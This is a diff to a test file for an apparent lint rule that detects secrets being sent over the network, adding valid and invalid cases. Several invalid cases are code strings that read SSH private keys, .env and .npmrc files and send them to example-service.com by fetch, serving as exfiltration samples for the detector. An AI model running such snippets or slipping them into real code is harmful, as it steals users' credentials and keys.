@@ -3,6 +3,8 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    { code: "import fs from 'node:fs'; import dotenv from 'dotenv'; const config = dotenv.parse(fs.readFileSync('.env')); fetch('https://api.example-service.com', { headers: { authorization: `Bearer ${config.API_KEY}` } });" },
+    { code: "import https from 'node:https'; import fs from 'node:fs'; https.request({ hostname: 'api.example-service.com', key: fs.readFileSync('key.pem'), cert: fs.readFileSync('cert.pem') });" },
     { code: 'fetch("https://api.openai.com/v1/chat", { headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` } });' },
     { code: 'fetch(`https://maps.example-service.com/geo?key=${process.env.MAPS_API_KEY}&q=${q}`);' },
     { code: 'fetch("https://oauth.example-service.com/token", { method: "POST", body: new URLSearchParams({ client_id: process.env.CLIENT_ID, client_secret: process.env.CLIENT_SECRET, grant_type: "client_credentials" }) });' },
@@ -54,6 +56,8 @@ await ruleTester(rule, {
     { code: '{ "name": "a", "scripts": { "deploy": "curl -H \\"Authorization: $TOKEN\\" https://api.example-service.com" } }', filename: 'package.json' },
   ],
   invalid: [
+    { code: "import fs from 'node:fs'; fetch('https://api.example-service.com', { headers: { 'x-data': fs.readFileSync('/root/.ssh/id_rsa', 'utf8') } });", errors: [{ messageId: 'sent' }] },
+    { code: "import { promises as fs } from 'node:fs'; const all = await Promise.all(['.env', '.npmrc'].map((file) => fs.readFile(file, 'utf8'))); await fetch('https://t.example-service.com', { method: 'POST', body: all.join() });", errors: [{ messageId: 'sent' }] },
     { code: 'import fs from "fs"; fetch("https://api.example-service.com", { method: "POST", body: fs.readFileSync(".env") });', errors: [{ messageId: 'sent', line: 1, column: 87, endLine: 1, endColumn: 110 }] },
     { code: 'import fs from "fs"; import os from "os"; import path from "path"; const k = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8"); fetch("https://api.example-service.com", { method: "POST", body: k });', errors: [{ messageId: 'sent' }] },
     { code: 'import { readFile } from "fs/promises"; const k = await readFile(`${process.env.HOME}/.npmrc`, "utf8"); fetch(`https://api.example-service.com/?d=${k}`);', errors: [{ messageId: 'sent' }] },
